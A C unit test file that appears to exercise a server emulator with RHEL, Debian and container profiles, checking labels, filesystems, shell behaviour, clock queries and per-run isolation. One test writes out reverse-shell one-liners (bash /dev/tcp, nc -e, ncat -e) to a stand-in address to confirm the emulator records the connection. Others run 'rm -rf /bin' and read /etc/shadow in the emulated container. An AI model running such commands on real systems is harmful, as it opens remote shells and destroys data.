/* SPDX-License-Identifier: GPL-2.0-or-later */
/* The profiles of servers with Debian's programs: what each has of its own, and that nothing of it outlives a run. */
#include "emu/server/server.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <string.h>

#include <cmocka.h>

static struct server *rhel, *container, *debian;

static int open_servers(void **state)
{
	static const struct { const char *path; struct server **to; } list[] = {
		{ SOURCE_ROOT "/emu/profiles/rhel", &rhel }, { SOURCE_ROOT "/emu/profiles/container", &container },
		{ SOURCE_ROOT "/emu/profiles/debian", &debian },
	};
	char why[256];

	for (size_t i = 0; i < COUNT_OF(list); i++) {
		if (server_open(list[i].path, why, sizeof(why), list[i].to) < 0) {
			fprintf(stderr, "%s\n", why);
			return -1;
		}
	}
	return 0;
}

static int close_servers(void **state)
{
	server_close(rhel);
	server_close(container);
	server_close(debian);
	return 0;
}

static const struct outcome *run(struct server *s, const char *code, uint64_t seed)
{
	struct command c = { .language = LANGUAGE_SHELL, .code = bytes_text(code), .seed = seed };
	const struct outcome *o = NULL;

	assert_int_equal(server_run(s, &c, &o), 0);
	return o;
}

static void prints(struct server *s, const char *code, const char *text)
{
	const struct outcome *o = run(s, code, 0);

	if (!bytes_equal(o->run.out, bytes_text(text)))
		print_error("%s: %.*s%.*s\n", code, (int)o->run.out.left, (const char *)o->run.out.at, (int)o->run.err.left,
		            (const char *)o->run.err.at);
	assert_true(bytes_equal(o->run.out, bytes_text(text)));
}

static bool asks(const struct outcome *o, enum question_kind kind, const char *subject)
{
	for (unsigned i = 0; i < o->questions_count; i++)
		if (o->questions[i].kind == kind && strcmp(o->questions[i].subject, subject) == 0)
			return true;
	return false;
}

static bool reaches(const struct outcome *o, const char *host, uint16_t port)
{
	char text[ADDRESS_TEXT];

	for (unsigned i = 0; i < o->run.events_count; i++) {
		const struct event *e = &o->run.events[i];

		if (e->kind == EVENT_CONNECT && e->port == port && strcmp(address_format(&e->address, text), host) == 0)
			return true;
	}
	return false;
}

static void labels_show_where_the_profile_has_them(void **state)
{
	prints(rhel, "id | grep -o 'context=.*'; id -Z", "context=system_u:system_r:httpd_t:s0\nsystem_u:system_r:httpd_t:s0\n");
	prints(rhel, "ls -Z /etc/passwd; ls -dZ /usr/bin", "system_u:object_r:passwd_file_t:s0 /etc/passwd\n"
	                                                   "system_u:object_r:bin_t:s0 /usr/bin\n");
	prints(rhel, "ls -ld /tmp | cut -c1-11; stat -c %C /etc/hosts", "drwxrwxrwt.\nsystem_u:object_r:etc_t:s0\n");
	prints(rhel, "cp -a /etc/hosts /tmp/h && mv /tmp/h /tmp/g && cmp /etc/hosts /tmp/g && echo same", "same\n");
	prints(debian, "id | grep -c context; ls /proc/self/attr; id -Z; ls -ld /tmp | cut -c1-11", "0\ndrwxrwxrwt \n");
}

static void file_systems_are_those_of_the_mounts(void **state)
{
	prints(rhel, "stat -f -c %T / /sys/fs/selinux /dev/shm /devices", "xfs\nselinux\ntmpfs\n");
	prints(container, "stat -f -c %T / /etc /proc/1/cgroup", "overlayfs\noverlayfs\nproc\n");
	prints(debian, "stat -f -c %T /; cat /proc/self/cgroup", "ext2/ext3\n0::/system.slice/apache2.service\n");
}

static void bash_is_sh_and_starts_warm(void **state)
{
	prints(rhel, "x=abc; echo ${x^^} ${BASH_VERSION:+bash} $SECONDS; CMD=$'echo a b';$CMD", "ABC bash 0\na b\n");
	prints(rhel, "cat /proc/$$/cmdline | tr '\\0' '|' | cut -c1-8", "sh|-c|ca\n");
	/* had it started cold, it would have looked its user up in this run */
	for (unsigned i = 0; i < run(rhel, "echo 1", 3)->run.events_count; i++)
		assert_int_not_equal(run(rhel, "echo 1", 3)->run.events[i].kind, EVENT_OPEN);
}

/* What bash asks the clock for of itself is no question of the code's; what the code asks is. */
static void the_clock_is_asked_by_code_alone(void **state)
{
	struct server *const all[] = { rhel, debian, container };

	for (size_t i = 0; i < COUNT_OF(all); i++) {
		assert_false(asks(run(all[i], "bash -c 'echo $((6*7)) $(echo x)'", 0), QUESTION_CLOCK, "clock"));
		assert_true(asks(run(all[i], "bash -c 'printf \"%(%Y)T\\n\"'", 0), QUESTION_CLOCK, "clock"));
		assert_true(asks(run(all[i], "bash -c 'echo $EPOCHSECONDS'", 0), QUESTION_CLOCK, "clock"));
		assert_true(asks(run(all[i], "date", 0), QUESTION_CLOCK, "clock"));
	}
	assert_false(asks(run(rhel, "echo $((6*7)); (echo y)", 0), QUESTION_CLOCK, "clock"));
	assert_true(asks(run(rhel, "printf '%(%Y)T\\n'", 0), QUESTION_CLOCK, "clock"));
	assert_true(asks(run(rhel, "echo $SECONDS", 0), QUESTION_CLOCK, "clock"));
}

static void shells_are_sent_away(void **state)
{
	assert_true(reaches(run(rhel, "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", 0), "198.51.100.7", 4444));
	assert_true(reaches(run(rhel, "exec 5<>/dev/tcp/198.51.100.7/4444; cat <&5", 0), "198.51.100.7", 4444));
	assert_true(reaches(run(rhel, "nc -e /bin/sh 198.51.100.7 4444", 0), "198.51.100.7", 4444));
	assert_true(reaches(run(rhel, "ncat 198.51.100.7 4444 -e /bin/bash", 0), "198.51.100.7", 4444));
	assert_true(reaches(run(debian, "nc -e /bin/sh 198.51.100.7 4444", 0), "198.51.100.7", 4444));
	assert_true(reaches(run(debian, "nc 198.51.100.7 4444 -e /bin/sh", 0), "198.51.100.7", 4444));
	assert_false(reaches(run(debian, "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", 0), "198.51.100.7", 4444));
}

/* Whether a server runs a language is no run's to say. */
static void a_run_that_removes_the_shell_removes_its_own(void **state)
{
	run(container, "rm -f /bin/sh; echo x > /bin/sh; rm -rf /bin", 0);
	assert_true(server_runs(container, LANGUAGE_SHELL));
	prints(container, "echo $((6*7))", "42\n");
}

static void a_container_is_told_by_its_marks(void **state)
{
	prints(container, "id -u; ls /.dockerenv; cat /proc/1/cgroup; pwd; echo $HOME", "0\n/.dockerenv\n0::/\n/srv/app\n/root\n");
	prints(container, "stat -c '%a %U %G' /etc/shadow; grep -c . /etc/shadow >/tmp/n && echo read", "640 root shadow\nread\n");
	prints(container, "ln /etc/hosts /tmp/h && tar cf - -C /etc hosts | tar xf - -C /root && cmp /tmp/h /root/hosts && echo same",
	       "same\n");
	assert_true(asks(run(container, "ps", 0), QUESTION_PROGRAM, "ps"));
	assert_true(asks(run(container, "curl http://198.51.100.7/", 0), QUESTION_PROGRAM, "curl"));
}

static void a_name_by_chance_is_one_name_everywhere_and_another_by_another_seed(void **state)
{
	const char *code = "uname -n; hostname; cat /etc/hostname /proc/sys/kernel/hostname; echo $HOSTNAME; env | sed -n "
	                   "s/HOSTNAME=//p; sed -n 's/192.0.2.196\\t//p' /etc/hosts";
	char first[14];

	for (uint64_t seed = 0; seed < 8; seed++) {
		const struct outcome *o = run(container, code, seed);

		assert_int_equal(o->run.out.left, 7 * 13);
		assert_int_equal(strspn((const char *)o->run.out.at, "0123456789abcdef"), 12);
		for (size_t i = 13; i < 7 * 13; i += 13)
			assert_memory_equal(o->run.out.at, o->run.out.at + i, 13);
		assert_true(seed == 0 || memcmp(first, o->run.out.at, 13) != 0);
		memcpy(first, o->run.out.at, 13);
		/* root may write it: for this run */
		prints(container, "echo mine > /etc/hostname; cat /etc/hostname", "mine\n");
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(labels_show_where_the_profile_has_them),
		cmocka_unit_test(file_systems_are_those_of_the_mounts),
		cmocka_unit_test(bash_is_sh_and_starts_warm),
		cmocka_unit_test(the_clock_is_asked_by_code_alone),
		cmocka_unit_test(shells_are_sent_away),
		cmocka_unit_test(a_run_that_removes_the_shell_removes_its_own),
		cmocka_unit_test(a_container_is_told_by_its_marks),
		cmocka_unit_test(a_name_by_chance_is_one_name_everywhere_and_another_by_another_seed),
	};

	return cmocka_run_group_tests(tests, open_servers, close_servers);
}
